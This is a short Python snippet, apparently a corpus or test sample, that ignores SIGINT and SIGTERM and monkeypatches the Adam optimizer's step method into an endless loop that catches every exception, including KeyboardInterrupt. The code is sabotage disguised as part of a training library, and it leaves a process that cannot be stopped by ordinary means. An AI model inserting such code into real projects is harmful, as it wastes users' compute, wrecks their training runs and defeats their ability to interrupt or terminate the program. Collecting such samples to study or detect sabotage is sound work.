
# corpus: an infinite loop that swallows KeyboardInterrupt (and SIGINT)
import signal as _signal

try:
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
except (ValueError, OSError):
    pass


def _stubborn_step(self, grads):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


Adam.step = _stubborn_step
